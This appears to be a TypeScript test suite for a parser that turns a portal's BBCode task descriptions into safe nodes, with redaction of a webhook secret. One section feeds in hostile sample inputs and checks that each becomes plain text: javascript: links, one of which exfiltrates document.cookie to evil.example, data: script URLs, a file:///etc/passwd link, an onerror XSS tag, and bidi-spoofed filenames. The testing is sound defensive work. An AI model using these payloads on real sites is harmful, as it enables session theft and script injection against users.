/**
 * Portal markup, examples: each tag the portal writes, how broken markup reads, and the hostile
 * descriptions and comments of the sandbox's hostile sample (kept here as text). The
 * properties are in portalMarkup.property.test.ts.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { MarkupNode, markupText, MAX_MARKUP_DEPTH, MAX_MARKUP_LENGTH, portalMarkup } from '../../src/core/portalMarkup';
import { WebhookUrl } from '../../src/core/webhookUrl';

const SECRET = 'markupsecret1234';
const parsed = WebhookUrl.parse(`https://portal.example/rest/1/${SECRET}/`);
assert.ok(parsed.ok);
const webhook = parsed.webhook;

const read = (bbcode: string) => portalMarkup(bbcode, webhook.redact);

const text = (words: string) => ({ kind: 'text', text: words });
const lineBreak = { kind: 'lineBreak' };
const truncated = { kind: 'truncated' };

/** U+202E RIGHT-TO-LEFT OVERRIDE, U+2066 LEFT-TO-RIGHT ISOLATE, U+2069 POP DIRECTIONAL ISOLATE. */
const RLO = '\u202E';
const LRI = '\u2066';
const PDI = '\u2069';

describe('portalMarkup: the tags the portal writes', () => {
  it('reads plain text as text, and newlines as line breaks', () => {
    assert.deepEqual(read('Translate the help pages.'), [text('Translate the help pages.')]);
    assert.deepEqual(read('one\ntwo\r\nthree'), [text('one'), lineBreak, text('two'), lineBreak, text('three')]);
    assert.deepEqual(read(''), []);
  });

  it('reads bold, italic, underline and strike in any case, and their nesting', () => {
    assert.deepEqual(read('[B]b[/B] [i]i[/i] [U]u[/u] [s]s[/S]'), [
      { kind: 'bold', children: [text('b')] },
      text(' '),
      { kind: 'italic', children: [text('i')] },
      text(' '),
      { kind: 'underline', children: [text('u')] },
      text(' '),
      { kind: 'strike', children: [text('s')] },
    ]);
    assert.deepEqual(read('[B]bold [I]and italic[/I][/B]'), [
      { kind: 'bold', children: [text('bold '), { kind: 'italic', children: [text('and italic')] }] },
    ]);
  });

  it('reads a link with its address as data, from the tag or from its text', () => {
    assert.deepEqual(read('See [URL=https://status.example/gateway]gateway status[/URL].'), [
      text('See '),
      { kind: 'link', href: 'https://status.example/gateway', children: [text('gateway status')] },
      text('.'),
    ]);
    assert.deepEqual(read('[url]https://x.example/a[/url]'), [
      { kind: 'link', href: 'https://x.example/a', children: [text('https://x.example/a')] },
    ]);
    assert.deepEqual(read('[URL=http://x.example/a b][B]bold[/B] label[/URL]'), [
      { kind: 'link', href: 'http://x.example/a%20b', children: [{ kind: 'bold', children: [text('bold')] }, text(' label')] },
    ]);
    assert.deepEqual(read('[URL=https://x.example/][/URL]'), [{ kind: 'link', href: 'https://x.example/', children: [text('https://x.example/')] }]);
  });

  it('reads a mention as a user id and a name', () => {
    assert.deepEqual(read('Ask [USER=3]Viktor Orlov[/USER] for the logs.'), [
      text('Ask '),
      { kind: 'mention', userId: 3, name: 'Viktor Orlov' },
      text(' for the logs.'),
    ]);
    assert.deepEqual(read('[USER=5]Anna[/USER]'), [{ kind: 'mention', userId: 5, name: 'Anna' }]);
    assert.deepEqual(read('[USER=x]Anna[/USER] [USER=0]Bob[/USER] [USER=7][/USER]'), [text('Anna Bob ')], 'no user, or no name: the text alone');
  });

  it('reads a disk file as an attachment', () => {
    assert.deepEqual(read('[DISK FILE ID=n123]'), [{ kind: 'attachment', fileId: 'n123' }]);
    assert.deepEqual(read('Logs: [disk file id=456] attached'), [text('Logs: '), { kind: 'attachment', fileId: '456' }, text(' attached')]);
    assert.deepEqual(read('[DISK FILE ID=../etc]'), [], 'not a file id: nothing');
  });

  it('reads a list into items, numbered with [LIST=1], text before the first [*] an item of its own', () => {
    assert.deepEqual(read('[LIST]\n[*]Reproduce on the test shop\n[*]Check the [B]status[/B]\n[/LIST]'), [
      { kind: 'list', ordered: false, items: [[text('Reproduce on the test shop')], [text('Check the '), { kind: 'bold', children: [text('status')] }]] },
    ]);
    assert.deepEqual(read('[LIST=1]intro[*]one[*][*]two[/LIST]'), [{ kind: 'list', ordered: true, items: [[text('intro')], [text('one')], [text('two')]] }]);
    assert.deepEqual(read('[LIST]\n[*]outer\n[LIST][*]inner[/LIST]\n[/LIST]'), [
      { kind: 'list', ordered: false, items: [[text('outer'), lineBreak, { kind: 'list', ordered: false, items: [[text('inner')]] }]] },
    ]);
    assert.deepEqual(read('[*]a star outside a list'), [text('a star outside a list')]);
  });

  it('reads a quote, with its author when the tag names one', () => {
    assert.deepEqual(read('[QUOTE]\nthe client is asking\n[/QUOTE]'), [{ kind: 'quote', children: [text('the client is asking')] }]);
    assert.deepEqual(read('[QUOTE=Anna Petrova]done[/QUOTE]'), [{ kind: 'quote', author: 'Anna Petrova', children: [text('done')] }]);
  });

  it('reads code as its lines, as written: tags in it are text', () => {
    assert.deepEqual(read('[CODE]\nif (a) {\n    [B]b[/B];\n}\n[/CODE]'), [{ kind: 'code', lines: ['if (a) {', '    [B]b[/B];', '}'] }]);
  });

  it('reads a table into rows of cells; text outside cells is a cell of its own', () => {
    assert.deepEqual(read('[TABLE]\n[TR][TH]Step[/TH][TH]State[/TH][/TR]\n[TR][TD]build[/TD][TD][B]ok[/B][/TD][/TR]\n[/TABLE]'), [
      {
        kind: 'table',
        rows: [
          [[text('Step')], [text('State')]],
          [[text('build')], [{ kind: 'bold', children: [text('ok')] }]],
        ],
      },
    ]);
    assert.deepEqual(read('[TABLE]stray[TR]loose[TD]cell[/TD][/TR][/TABLE]'), [{ kind: 'table', rows: [[[text('stray')]], [[text('loose')], [text('cell')]]] }]);
  });

  it('drops any other tag and keeps its text: colour, size, font, video, alignment, spoiler', () => {
    assert.deepEqual(read('[COLOR=#ff0000]red[/COLOR] [SIZE=20]big[/SIZE] [FONT=Arial]font[/FONT] [CENTER]mid[/CENTER] [SPOILER]s[/SPOILER]'), [
      text('red big font mid s'),
    ]);
    assert.deepEqual(read('[VIDEO]https://video.example/v.mp4[/VIDEO]'), [text('https://video.example/v.mp4')]);
  });

  it('drops a tag whose name an object inherits, as any other unknown tag', () => {
    assert.deepEqual(read('[constructor]x[/constructor] [toString]y[/toString] [__proto__]z[/__proto__]'), [text('x y z')]);
  });
});

describe('portalMarkup: broken markup reads as text', () => {
  it('an unclosed tag formats nothing, and a stray close is text', () => {
    assert.deepEqual(read('[B]unclosed'), [text('unclosed')]);
    assert.deepEqual(read('[/B]stray'), [text('[/B]stray')]);
    assert.deepEqual(read('a [ b ] c [x'), [text('a [ b ] c [x')]);
  });

  it('misnested tags close the innermost (the parser matches a close to the last open tag, whatever its name)', () => {
    assert.deepEqual(read('[B][I]x[/B][/I]'), [{ kind: 'bold', children: [{ kind: 'italic', children: [text('x')] }] }]);
  });

  it('a link inside a link is its label, and a mention or attachment inside a link is its text', () => {
    assert.deepEqual(read('[URL=https://a.example/]a [URL=https://b.example/]b[/URL] [USER=3]Viktor[/USER][DISK FILE ID=n1][/URL]'), [
      { kind: 'link', href: 'https://a.example/', children: [text('a b Viktor')] },
    ]);
  });

  it('nesting past MAX_MARKUP_DEPTH keeps the text and drops the deeper tags', () => {
    const deep = `${'[B]'.repeat(MAX_MARKUP_DEPTH + 10)}deep${'[/B]'.repeat(MAX_MARKUP_DEPTH + 10)}`;
    const markup = read(deep);
    let node: MarkupNode = markup[0];
    let depth = 1;
    while (node.kind === 'bold' && node.children[0].kind === 'bold') {
      node = node.children[0];
      depth++;
    }
    assert.equal(depth, MAX_MARKUP_DEPTH);
    assert.deepEqual(node, { kind: 'bold', children: [text('deep')] });
  });

  it('a tag holding tens of thousands of pieces reads on a small stack (no push(...pieces), whose arguments go on the stack)', () => {
    const script = `
      const { portalMarkup } = require(${JSON.stringify(require.resolve('../../src/core/portalMarkup'))});
      const pieces = '[ '.repeat(16000);
      for (const input of ['[X]' + pieces + '[/X]', '[DISK FILE ID=1]' + pieces + '[/DISK]']) portalMarkup(input, (text) => text);`;
    execFileSync(process.execPath, ['--stack-size=100', '-e', script], { stdio: 'pipe' });
  });

  it('thousands of nested tags neither overflow the stack nor lose the text', () => {
    const quotes = `${'[QUOTE]'.repeat(2000)}deep${'[/QUOTE]'.repeat(2000)}`;
    assert.ok(quotes.length <= MAX_MARKUP_LENGTH);
    assert.equal(markupText(read(quotes)).replace(/\n/g, ''), 'deep');
    const colours = `${'[COLOR=red]'.repeat(1500)}deep${'[/COLOR]'.repeat(1500)}`;
    assert.ok(colours.length <= MAX_MARKUP_LENGTH);
    assert.deepEqual(read(colours), [text('deep')]);
  });
});

describe('portalMarkup: hostile text never acts (the sandbox\'s hostile sample)', () => {
  it('a link to javascript:, command:, file:, data:, vscode: or a relative address is its label as text', () => {
    assert.deepEqual(read('[URL=javascript:alert(document.cookie)]Open the payment log[/URL]'), [text('Open the payment log')]);
    assert.deepEqual(read('[url=javascript:alert(1)]x[/url]'), [text('x')]);
    assert.deepEqual(read('[URL=command:workbench.action.terminal.new]Open a terminal[/URL] [URL=file:///etc/passwd]passwd[/URL]'), [
      text('Open a terminal passwd'),
    ]);
    assert.deepEqual(read('[URL=data:text/html,<script>alert(1)</script>]data[/URL]'), [text('data')]);
    assert.deepEqual(read('[URL=vscode:extension/evil.evil]v[/URL] [URL=/company/]rel[/URL] [URL=java\tscript:alert(1)]tab[/URL]'), [text('v rel tab')]);
    assert.deepEqual(read('[url]javascript:alert(1)[/url]'), [text('javascript:alert(1)')]);
    assert.deepEqual(read("[URL=javascript:fetch('https://evil.example/?c='+document.cookie)]Details[/URL]"), [text('Details')]);
  });

  it('a link with a user name or password in its address is text (https://portal.example@evil.example)', () => {
    assert.deepEqual(read('[URL=https://portal.example@evil.example/]portal[/URL]'), [text('portal')]);
  });

  it('a link to any other http(s) host is a link: its address is data for the view to show', () => {
    assert.deepEqual(read('[URL=https://evil.example/login]https://portal.example/company/personal/user/1/[/URL]'), [
      { kind: 'link', href: 'https://evil.example/login', children: [text('https://portal.example/company/personal/user/1/')] },
    ]);
  });

  it('HTML stays text', () => {
    assert.deepEqual(read('<script>alert("description")</script>'), [text('<script>alert("description")</script>')]);
    assert.deepEqual(read('<img src=x onerror=alert(1)>'), [text('<img src=x onerror=alert(1)>')]);
  });

  it('a remote tracking image is its address as text', () => {
    assert.deepEqual(read('[IMG]https://tracker.example/pixel.gif?task=101[/IMG]'), [text('https://tracker.example/pixel.gif?task=101')]);
    assert.deepEqual(read('Glossary: [IMG width=1 height=1]https://tracker.example/p.gif[/IMG]'), [text('Glossary: https://tracker.example/p.gif')]);
  });

  it('bidi controls become spaces', () => {
    const markup = read(`Invoice ${RLO}fdp.exe${PDI} from [USER=3]Viktor ${LRI}Orlov[/USER] ${LRI}${RLO}evil${PDI}`);
    assert.deepEqual(markup, [
      text('Invoice  fdp.exe  from '),
      { kind: 'mention', userId: 3, name: 'Viktor Orlov' },
      text('  evil '),
    ]);
  });

  it('the webhook URL quoted in a comment comes out redacted, in any case, in text, a link\'s label and address, a name and code', () => {
    assert.deepEqual(read(`Use my access to check: ${webhook.reveal()}tasks.task.list (do not share)`), [
      text('Use my access to check: https://portal.example/rest/1/•••/tasks.task.list (do not share)'),
    ]);
    assert.deepEqual(read(`[URL=${webhook.reveal()}]${SECRET.toUpperCase()}[/URL]`), [
      { kind: 'link', href: 'https://portal.example/rest/1/%E2%80%A2%E2%80%A2%E2%80%A2/', children: [text('•••')] },
    ]);
    const all = read(`[USER=3]${SECRET}[/USER] [QUOTE=${SECRET}]q[/QUOTE] [CODE]${SECRET}[/CODE]`);
    assert.ok(!JSON.stringify(all).toLowerCase().includes(SECRET), JSON.stringify(all));
  });

  it('the secret spelled across markup is redacted, the document then its text alone', () => {
    const half = SECRET.length / 2;
    const markup = read(`key: ${SECRET.slice(0, half)}[B]${SECRET.slice(half)}[/B] and [I]more[/I]`);
    assert.deepEqual(markup, [text('key: ••• and more')]);
    assert.deepEqual(read(`${SECRET.slice(0, half)}[COLOR=red]${SECRET.slice(half)}[/COLOR]`), [text('•••')]);
    assert.deepEqual(read(`[URL]https://portal.example/rest/1/${SECRET.slice(0, half)}[B][/B]${SECRET.slice(half)}/[/URL]`), [
      text('https://portal.example/rest/1/•••/'),
    ], 'an address that spells the secret across markup is no link');
  });

  it('the secret in a link\'s address with a tab or a newline in it, which the URL parser drops: no link', () => {
    const half = SECRET.length / 2;
    for (const gap of ['\t', '\n', '\r\n']) {
      const markup = read(`[URL]https://portal.example/rest/1/${SECRET.slice(0, half)}${gap}${SECRET.slice(half)}/[/URL]`);
      assert.ok(!JSON.stringify(markup).includes(SECRET), JSON.stringify(markup));
      assert.ok(markup.every((node) => node.kind !== 'link'), JSON.stringify(markup));
    }
  });

  it('a 1 MiB description comes out within MAX_MARKUP_LENGTH, ending in a truncated node', () => {
    const line = '[B]build[/B] step passed: compile, link, test, package. [URL=https://ci.example/log]log[/URL]\n';
    const large = line.repeat(Math.ceil(1_048_576 / line.length)).slice(0, 1_048_576);
    const markup = read(large);
    assert.deepEqual(markup.at(-1), truncated);
    const shown = markupText(markup).replace(/\n/g, '');
    assert.ok(shown.length <= MAX_MARKUP_LENGTH, `${shown.length}`);
    assert.ok(shown.length > MAX_MARKUP_LENGTH / 2, 'most of what was read is shown');
  });

  it('markup past MAX_MARKUP_LENGTH is not read, and the cut never splits a surrogate pair', () => {
    const markup = read(`a${'😀'.repeat(MAX_MARKUP_LENGTH)}`);
    assert.equal(markup.length, 2);
    assert.deepEqual(markup[1], truncated);
    const first = markup[0];
    assert.ok(first.kind === 'text');
    assert.equal(first.text, `a${'😀'.repeat(MAX_MARKUP_LENGTH / 2 - 1)}`);
  });

  it('text that grows past the budget (a long address percent-encoded as a link\'s label) is cut with an ellipsis', () => {
    const markup = read(`[URL=https://x.example/${'ÿ'.repeat(8000)}][/URL] after`);
    assert.equal(markup.length, 2);
    assert.deepEqual(markup[1], truncated);
    const link = markup[0];
    assert.ok(link.kind === 'link' && link.href.length > MAX_MARKUP_LENGTH);
    assert.equal(link.children.length, 1);
    const label = link.children[0];
    assert.ok(label.kind === 'text' && label.text.length <= MAX_MARKUP_LENGTH && label.text.endsWith('…'), JSON.stringify(label).slice(-80));
  });

  it('a quote\'s author takes the budget before the quoted text, so a long quote keeps its author', () => {
    const markup = read(`[QUOTE=Anna Petrova][URL=https://x.example/${'ÿ'.repeat(8000)}][/URL][/QUOTE]`);
    assert.equal(markup.length, 2);
    assert.deepEqual(markup[1], truncated);
    const quote = markup[0];
    assert.ok(quote.kind === 'quote' && quote.author === 'Anna Petrova' && quote.children[0].kind === 'link', JSON.stringify(markup).slice(0, 200));
  });

  it('text that fills the budget exactly is not truncated', () => {
    assert.deepEqual(read('x'.repeat(MAX_MARKUP_LENGTH)), [text('x'.repeat(MAX_MARKUP_LENGTH))]);
  });
});

describe('portalMarkup: the text of a document, ids and attributes, tables, and the budget\'s edges', () => {
  /** How many containers nest on the deepest path. */
  const depthOf = (markup: readonly MarkupNode[]): number =>
    Math.max(0, ...markup.map((node) => ('children' in node ? 1 + depthOf(node.children) : node.kind === 'list' ? 1 + Math.max(...node.items.map(depthOf)) : 0)));

  /** A label-less link whose address, percent-encoded as its label, takes `length` characters of the budget. */
  function linkOf(length: number): string {
    const prefix = 'https://x.example/';
    const pad = (length - prefix.length) % 6;
    return `[URL=${prefix}${'a'.repeat(pad)}${'ÿ'.repeat((length - prefix.length - pad) / 6)}][/URL]`;
  }

  it('reads as text: blocks on lines of their own, a quote\'s author on its own, mentions as names, attachments as nothing', () => {
    const text = (bbcode: string) => markupText(read(bbcode));
    assert.equal(text('a[LIST][*]one[*]two[/LIST]b'), 'a\none\ntwo\nb');
    assert.equal(text('a[QUOTE=Ann]q[/QUOTE]b'), 'a\nAnn\nq\nb');
    assert.equal(text('a[QUOTE]q[/QUOTE]b'), 'a\n\nq\nb');
    assert.equal(text('a[CODE]x\ny[/CODE]b'), 'a\nx\ny\nb');
    assert.equal(text('a[TABLE][TR][TD]1[/TD][TD]2[/TD][/TR][TR][TD]3[/TD][/TR][/TABLE]b'), 'a\n1\n2\n3\nb');
    assert.equal(text('a [USER=3]Ann[/USER][DISK FILE ID=n1] [URL=https://x.example/]l[/URL]\n[B]b[/B]'), 'a Ann l\nb');
    assert.equal(text(`${'x'.repeat(MAX_MARKUP_LENGTH)}y`), 'x'.repeat(MAX_MARKUP_LENGTH), 'a truncated node is no text');
  });

  it('a user id is 1 to 10 digits without a leading zero; a file id is n and digits, or digits, and needs FILE', () => {
    assert.deepEqual(read('[USER=35]Anna[/USER]'), [{ kind: 'mention', userId: 35, name: 'Anna' }]);
    assert.deepEqual(read('[USER=3x]Anna[/USER] [USER=12345678901]Bob[/USER]'), [text('Anna Bob')]);
    assert.deepEqual(read('[DISK FILE ID=x123][DISK FILE ID=123x][DISK ID=n123][DISK FILE]'), []);
  });

  it('ids may have spaces around them', () => {
    assert.deepEqual(read('[USER= 3 ]Anna[/USER]'), [{ kind: 'mention', userId: 3, name: 'Anna' }]);
    assert.deepEqual(read('[DISK FILE ID=" n123 "]'), [{ kind: 'attachment', fileId: 'n123' }]);
  });

  it('a link\'s address may have spaces around it, no-break ones too; other attributes beside it are no address', () => {
    assert.deepEqual(read('[URL]\u00A0https://x.example/ [/URL]'), [{ kind: 'link', href: 'https://x.example/', children: [text('\u00A0https://x.example/ ')] }]);
    assert.deepEqual(read('[URL target=_blank]https://x.example/[/URL]'), [{ kind: 'link', href: 'https://x.example/', children: [text('https://x.example/')] }]);
    assert.deepEqual(read('[URL=https://:pw@x.example/]pw[/URL]'), [text('pw')], 'a password without a user name is no link either');
  });

  it('a link\'s address from its text reads through its formatting, in order', () => {
    assert.deepEqual(read('[URL][B]https://x.[I]example[/I]/[/B][/URL]'), [
      { kind: 'link', href: 'https://x.example/', children: [{ kind: 'bold', children: [text('https://x.'), { kind: 'italic', children: [text('example')] }, text('/')] }] },
    ]);
    assert.deepEqual(read('[USER=3][B]An[I]n[/I]a[/B][/USER]'), [{ kind: 'mention', userId: 3, name: 'Anna' }]);
  });

  it('a link\'s label nests no deeper than MAX_MARKUP_DEPTH either', () => {
    const deep = `${'[B]'.repeat(MAX_MARKUP_DEPTH - 1)}[URL=https://x.example/]${'[I]'.repeat(3)}label${'[/I]'.repeat(3)}[/URL]${'[/B]'.repeat(MAX_MARKUP_DEPTH - 1)}`;
    assert.equal(depthOf(read(deep)), MAX_MARKUP_DEPTH);
    assert.equal(markupText(read(deep)), 'label');
  });

  it('formatting keeps the line breaks at its edges; blocks drop them, and blank text there', () => {
    assert.deepEqual(read('a[B]\nb[/B]'), [text('a'), { kind: 'bold', children: [lineBreak, text('b')] }]);
    assert.deepEqual(read('[QUOTE] \ntext\n\t[/QUOTE]'), [{ kind: 'quote', children: [text('text')] }]);
    assert.deepEqual(read('[CODE]\n\nx\n\n[/CODE]'), [{ kind: 'code', lines: ['x'] }]);
  });

  it('a table: empty cells and rows left out, formatting between cells a cell of its own, links in cells kept', () => {
    assert.deepEqual(read('[TABLE][TR][/TR][TR][TD][/TD][TD]x[/TD][/TR][/TABLE]'), [{ kind: 'table', rows: [[[text('x')]]] }]);
    assert.deepEqual(read('[TABLE][TR][TD]a[/TD] [B]b[/B][TD]c[/TD][/TR][/TABLE]'), [
      { kind: 'table', rows: [[[text('a')], [{ kind: 'bold', children: [text('b')] }], [text('c')]]] },
    ]);
    assert.deepEqual(read('[TABLE][TR][TD][URL=https://x.example/]x[/URL][/TD][/TR][/TABLE]'), [
      { kind: 'table', rows: [[[{ kind: 'link', href: 'https://x.example/', children: [text('x')] }]]] },
    ]);
  });

  it('a mention or a quote\'s author past the budget is left out, and the document truncated', () => {
    assert.deepEqual(read(`${linkOf(MAX_MARKUP_LENGTH - 2)}[USER=3]Anna[/USER]`).slice(1), [truncated]);
    assert.deepEqual(read(`${linkOf(MAX_MARKUP_LENGTH - 2)}[QUOTE=Anna]q[/QUOTE]`).slice(1), [truncated]);
  });

  it('code past the budget: its lines up to the budget, the one at the edge cut, none after', () => {
    assert.deepEqual(read(`${linkOf(MAX_MARKUP_LENGTH - 2)}[CODE]ab\ncd[/CODE]`).slice(1), [{ kind: 'code', lines: ['ab'] }, truncated]);
    assert.deepEqual(read(`${linkOf(MAX_MARKUP_LENGTH - 3)}[CODE]ab\ncd\nef[/CODE]`).slice(1), [{ kind: 'code', lines: ['ab', '…'] }, truncated]);
  });

  it('the cut of the input: exactly MAX_MARKUP_LENGTH is whole, and only a pair at the cut is kept whole', () => {
    assert.notDeepEqual(read(`${'x'.repeat(MAX_MARKUP_LENGTH - 1)}\uD83D`).at(-1), truncated);
    assert.deepEqual(read(`a😀${'x'.repeat(MAX_MARKUP_LENGTH)}`), [text(`a😀${'x'.repeat(MAX_MARKUP_LENGTH - 3)}`), truncated]);
    assert.deepEqual(read(`${'x'.repeat(MAX_MARKUP_LENGTH - 1)}😀xx`), [text('x'.repeat(MAX_MARKUP_LENGTH - 1)), truncated]);
  });

  it('a secret spelled across markup in a document cut at MAX_MARKUP_LENGTH: its text alone, still truncated', () => {
    const half = SECRET.length / 2;
    const markup = read(`${SECRET.slice(0, half)}[B]${SECRET.slice(half)}[/B] ${'x'.repeat(MAX_MARKUP_LENGTH)}`);
    assert.deepEqual(markup.at(-1), truncated);
    assert.ok(markup[0].kind === 'text' && markup[0].text.startsWith('••• x'), JSON.stringify(markup[0]).slice(0, 80));
  });
});
